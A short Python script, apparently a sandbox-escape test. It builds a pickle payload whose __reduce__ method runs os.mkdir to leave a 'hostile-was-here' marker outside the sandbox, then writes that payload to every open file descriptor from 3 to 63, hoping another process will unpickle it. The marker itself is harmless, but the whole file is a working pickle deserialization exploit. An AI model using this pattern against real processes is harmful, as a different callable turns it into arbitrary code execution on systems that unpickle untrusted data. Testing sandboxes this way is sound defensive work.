import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.mkdir, ("OUTSIDE/hostile-was-here",)


data = pickle.dumps(Bomb())
for descriptor in range(3, 64):
    for bytes_ in (data, len(data).to_bytes(8, "little") + data):
        try:
            os.write(descriptor, bytes_)
        except OSError:
            pass
